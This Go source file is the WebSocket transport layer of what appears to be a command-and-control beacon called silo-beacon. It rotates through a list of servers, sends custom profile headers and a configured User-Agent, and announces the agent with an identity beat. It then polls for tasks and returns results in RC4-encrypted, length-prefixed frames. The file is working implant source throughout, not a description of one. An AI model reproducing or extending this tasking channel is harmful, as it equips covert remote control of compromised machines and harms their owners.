package transport

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"sync/atomic"
	"time"

	"github.com/gorilla/websocket"

	"github.com/EternisAI/silo-beacon/internal/packer"
	"github.com/EternisAI/silo-beacon/internal/task"
)

type State int32

const (
	StateUnconnected State = iota
	StateHandshaking
	StateConnected
)

func (s State) String() string {
	switch s {
	case StateUnconnected:
		return "unconnected"
	case StateHandshaking:
		return "handshaking"
	case StateConnected:
		return "connected"
	default:
		return fmt.Sprintf("State(%d)", int32(s))
	}
}

const (
	frameHeaderSize = 4
	readChunkSize   = 4096
	maxMessageSize  = 16 << 20
)

var (
	ErrAllServersFailed = errors.New("all servers failed")
	ErrShortMessage     = errors.New("message shorter than frame header")
	ErrLengthMismatch   = errors.New("frame length does not match message size")
	ErrNotConnected     = errors.New("not connected")
)

// heartbeat is the empty frame: a zero length and no payload.
var heartbeat = make([]byte, frameHeaderSize)

// WebSocketTransport keeps one connection open to the current server. The
// first message on a new connection is the identity beat; after that every
// message is a length-prefixed frame encrypted with the session key.
type WebSocketTransport struct {
	retryBudget

	opts    Options
	profile *Profile
	servers *ServerSet
	cipher  packer.Cipher
	key     []byte
	scheme  string
	dialer  *net.Dialer

	conn  *websocket.Conn
	state atomic.Int32
}

func NewWebSocket(opts Options) *WebSocketTransport {
	c := opts.Cipher
	if c == nil {
		c = packer.RC4{}
	}
	return &WebSocketTransport{
		retryBudget: retryBudget{max: opts.Config.MaxRetries},
		opts:        opts,
		profile:     opts.profile(),
		servers:     opts.servers(),
		cipher:      c,
		key:         opts.Session.Key(),
		scheme:      opts.scheme("ws", "wss"),
		dialer:      &net.Dialer{Timeout: dialTimeout},
	}
}

func (t *WebSocketTransport) State() State {
	return State(t.state.Load())
}

func (t *WebSocketTransport) setState(s State) {
	t.state.Store(int32(s))
}

// Connect tries each server once, starting at the current index. Any failure
// advances the index; after Count() failures it gives up. It returns the
// number of attempts made.
func (t *WebSocketTransport) Connect(ctx context.Context) (int, error) {
	n := t.servers.Count()
	for attempt := 1; attempt <= n; attempt++ {
		srv := t.servers.Current()

		conn, err := t.dial(ctx)
		if err == nil {
			t.conn = conn
			slog.Info("Connected to server", "server", srv.String(), "attempt", attempt)
			return attempt, nil
		}
		if ctx.Err() != nil {
			return attempt, ctx.Err()
		}

		slog.Warn("Failed to connect to server", "server", srv.String(), "attempt", attempt, "error", err)
		t.servers.Advance()
	}
	return n, ErrAllServersFailed
}

func (t *WebSocketTransport) dial(ctx context.Context) (*websocket.Conn, error) {
	target, err := t.servers.Dial(ctx)
	if err != nil {
		return nil, err
	}

	d := websocket.Dialer{
		NetDialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return t.dialer.DialContext(ctx, network, target)
		},
		TLSClientConfig:  t.opts.TLS,
		HandshakeTimeout: dialTimeout,
	}

	header := http.Header{}
	for k, v := range t.profile.HTTP.Headers {
		header.Set(k, v)
	}
	header.Set("User-Agent", t.opts.Config.UserAgent)

	url := fmt.Sprintf("%s://%s%s", t.scheme, t.servers.Current().String(), t.profile.WebSocket.Path)
	conn, resp, err := d.DialContext(ctx, url, header)
	if err != nil {
		if resp != nil {
			resp.Body.Close()
			return nil, fmt.Errorf("upgrade rejected with status %d: %w", resp.StatusCode, err)
		}
		return nil, err
	}
	conn.SetReadLimit(maxMessageSize)
	return conn, nil
}

// EnsureHandshake connects and announces the agent unless a session is
// already established.
func (t *WebSocketTransport) EnsureHandshake(ctx context.Context) error {
	if t.State() == StateConnected && t.conn != nil {
		return nil
	}

	t.setState(StateHandshaking)
	if _, err := t.Connect(ctx); err != nil {
		t.setState(StateUnconnected)
		return err
	}

	beat := t.opts.Beat
	if lt := t.profile.WebSocket.ListenerType; lt != 0 {
		beat = packer.WithListenerType(beat, lt)
	}
	if err := t.write(ctx, beat); err != nil {
		t.drop()
		return fmt.Errorf("failed to send identity beat: %w", err)
	}

	t.setState(StateConnected)
	return nil
}

func (t *WebSocketTransport) ReceiveTask(ctx context.Context) *task.Task {
	if t.exhausted() {
		return nil
	}

	tk, err := t.receive(ctx)
	if err != nil {
		t.failed(ctx, "Failed to receive task", err)
		return nil
	}

	t.succeed()
	return tk
}

func (t *WebSocketTransport) receive(ctx context.Context) (*task.Task, error) {
	if err := t.EnsureHandshake(ctx); err != nil {
		return nil, err
	}
	if err := t.write(ctx, heartbeat); err != nil {
		return nil, err
	}

	payload, err := t.readFrame(ctx)
	if err != nil {
		return nil, err
	}
	if len(payload) == 0 {
		return nil, nil
	}

	tk, err := task.Decode(payload)
	if err != nil {
		return nil, err
	}
	if tk != nil {
		slog.Debug("Task received", "task_id", tk.ID, "kind", tk.Kind.String())
	}
	return tk, nil
}

func (t *WebSocketTransport) SendResult(ctx context.Context, r *task.Result) bool {
	if t.exhausted() {
		return false
	}

	if err := t.send(ctx, r); err != nil {
		t.failed(ctx, "Failed to send result", err)
		return false
	}

	t.succeed()
	slog.Debug("Result sent", "task_id", r.TaskID)
	return true
}

func (t *WebSocketTransport) send(ctx context.Context, r *task.Result) error {
	if err := t.EnsureHandshake(ctx); err != nil {
		return err
	}

	body, err := task.EncodeResult(r)
	if err != nil {
		return err
	}
	frame, err := t.encodeFrame(body)
	if err != nil {
		return err
	}
	return t.write(ctx, frame)
}

func (t *WebSocketTransport) Close() error {
	if t.conn == nil {
		return nil
	}
	msg := websocket.FormatCloseMessage(websocket.CloseNormalClosure, "")
	t.conn.WriteControl(websocket.CloseMessage, msg, time.Now().Add(time.Second))
	err := t.conn.Close()
	t.conn = nil
	t.setState(StateUnconnected)
	return err
}

// failed tears down the connection so the next call performs a fresh
// handshake. Connect already advanced the index for connection failures.
func (t *WebSocketTransport) failed(ctx context.Context, msg string, err error) {
	t.drop()
	if ctx.Err() != nil {
		return
	}
	slog.Warn(msg, "server", t.servers.Current().String(), "error", err)
	t.fail()
}

func (t *WebSocketTransport) drop() {
	if t.conn != nil {
		t.conn.Close()
		t.conn = nil
	}
	t.setState(StateUnconnected)
}

func (t *WebSocketTransport) encodeFrame(plain []byte) ([]byte, error) {
	if len(plain) == 0 {
		return heartbeat, nil
	}
	ct, err := t.cipher.Encrypt(plain, t.key)
	if err != nil {
		return nil, fmt.Errorf("failed to encrypt frame: %w", err)
	}
	frame := make([]byte, frameHeaderSize+len(ct))
	binary.LittleEndian.PutUint32(frame, uint32(len(ct)))
	copy(frame[frameHeaderSize:], ct)
	return frame, nil
}

func (t *WebSocketTransport) decodeFrame(msg []byte) ([]byte, error) {
	if len(msg) < frameHeaderSize {
		return nil, fmt.Errorf("%w: %d bytes", ErrShortMessage, len(msg))
	}
	n := binary.LittleEndian.Uint32(msg)
	if int(n) != len(msg)-frameHeaderSize {
		return nil, fmt.Errorf("%w: header %d, payload %d", ErrLengthMismatch, n, len(msg)-frameHeaderSize)
	}
	if n == 0 {
		return nil, nil
	}
	plain, err := t.cipher.Decrypt(msg[frameHeaderSize:], t.key)
	if err != nil {
		return nil, fmt.Errorf("failed to decrypt frame: %w", err)
	}
	return plain, nil
}

func (t *WebSocketTransport) write(ctx context.Context, data []byte) error {
	conn := t.conn
	if conn == nil {
		return ErrNotConnected
	}
	stop := context.AfterFunc(ctx, func() {
		conn.SetWriteDeadline(time.Now())
	})
	defer stop()

	conn.SetWriteDeadline(time.Now().Add(t.profile.WebSocket.ReadTimeout))
	return conn.WriteMessage(websocket.BinaryMessage, data)
}

func (t *WebSocketTransport) readFrame(ctx context.Context) ([]byte, error) {
	conn := t.conn
	if conn == nil {
		return nil, ErrNotConnected
	}
	stop := context.AfterFunc(ctx, func() {
		conn.SetReadDeadline(time.Now())
	})
	defer stop()

	conn.SetReadDeadline(time.Now().Add(t.profile.WebSocket.ReadTimeout))
	_, r, err := conn.NextReader()
	if err != nil {
		return nil, err
	}

	msg, err := reassemble(r)
	if err != nil {
		return nil, err
	}
	return t.decodeFrame(msg)
}

// reassemble drains one message, which may arrive over several fragments,
// appending the pieces in order.
func reassemble(r io.Reader) ([]byte, error) {
	var msg []byte
	chunk := make([]byte, readChunkSize)
	for {
		n, err := r.Read(chunk)
		msg = append(msg, chunk[:n]...)
		if err == io.EOF {
			return msg, nil
		}
		if err != nil {
			return nil, err
		}
	}
}
